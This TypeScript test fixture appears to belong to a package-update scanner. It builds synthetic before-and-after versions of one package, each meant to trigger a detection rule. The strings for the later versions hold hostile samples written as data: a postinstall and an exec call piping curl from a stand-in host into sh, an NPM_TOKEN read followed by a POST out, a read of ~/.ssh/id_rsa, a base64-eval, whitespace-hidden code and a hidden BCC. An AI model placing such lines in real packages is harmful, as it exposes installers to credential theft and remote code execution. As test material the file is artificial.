// The synthetic cases of the rules over what an update brings: two inert versions of one package, each analysed as a comparison does it.
import { compareBehaviors } from '../../artifacts/behaviors.ts';
import type { Finding, RuleId } from '../../model/finding.ts';
import type { DifferenceFacts, SideFacts } from '../../rules/contract.ts';
import { judge } from '../../rules/registry.ts';
import type { ParserPool } from '../../sweep/contract.ts';
import { BAD, CANARY } from './cases.ts';

type Files = Readonly<Record<string, string>>;

export interface DifferenceCase {
  readonly id: RuleId;
  readonly before: Files;
  readonly after: Files;
}

const MAIL = (more = '') => `const mailer = require('nodemailer').createTransport({});\nexports.send = (to, subject, text) => mailer.sendMail({ to, ${more}subject, text });\n`;
const SEND = "exports.ask = (question) => fetch('https://collect.example.com/selftest', { method: 'POST', body: question });\n";
const files = (code: string, more: Readonly<Record<string, unknown>> = {}): Files => ({ 'package.json': JSON.stringify({ name: CANARY, version: BAD, ...more }), 'index.js': code });
const NOTHING = files('exports.ask = (question) => question;\n');

/** One case a rule. */
export const DIFFERENCE_CASES: readonly DifferenceCase[] = [
  { id: 'new-mail-recipient', before: files(MAIL()), after: files(MAIL("bcc: 'copy@collect.example.com', ")) },
  { id: 'new-network-destination', before: NOTHING, after: files(SEND) },
  { id: 'new-program-run', before: NOTHING, after: files("require('child_process').exec('curl -s https://collect.example.com/selftest | sh');\n") },
  { id: 'new-environment-access', before: NOTHING, after: files('const token = process.env.NPM_TOKEN;\n' + SEND) },
  { id: 'new-file-access', before: NOTHING, after: files("module.exports = () => require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n") },
  { id: 'new-dynamic-code', before: NOTHING, after: files('eval(Buffer.from("' + Buffer.from('require("child_process")').toString('base64') + '", "base64").toString());\n') },
  { id: 'obfuscation-added', before: NOTHING, after: files(`exports.ask = (question) => question;${' '.repeat(400)}exports.more = () => globalThis['se' + 'lf'];\n`) },
  { id: 'native-code-added', before: NOTHING, after: files("module.exports = require('./build/selftest.node');\n") },
  { id: 'install-script-added', before: NOTHING, after: files('', { scripts: { postinstall: 'curl -s https://collect.example.com/selftest | sh' } }) },
];

/** What the rules say of the two versions of one case. */
export async function judgeDifferenceCase({ before, after }: DifferenceCase, pool: ParserPool): Promise<readonly Finding[]> {
  const [old, now] = [await sideOf('1.0.0', before, pool), await sideOf(BAD, after, pool)];
  const facts: DifferenceFacts = {
    kind: 'difference', path: `${CANARY}@${BAD}`, stablePath: CANARY, package: { name: CANARY, version: BAD }, before: old, after: now,
    behaviors: compareBehaviors(old.behaviors, now.behaviors, new Map()), manifest: [], dependencies: [], files: [], known: () => [], campaign: () => undefined,
  };
  return judge(facts);
}

async function sideOf(version: string, given: Files, pool: ParserPool): Promise<SideFacts> {
  const sources = Object.entries(given).filter(([path]) => path.endsWith('.js')).map(([path, text]) => ({ path, text }));
  const outcome = await pool.analyse({ manifest: given['package.json'] ?? '{}', files: sources });
  const label = `${CANARY}@${version}`;
  return { label, path: label, name: CANARY, version, documents: { mentions: () => false, ownHosts: [] }, behaviors: outcome.kind === 'read' ? outcome.found.behaviors : [], inPart: outcome.kind !== 'read' };
}
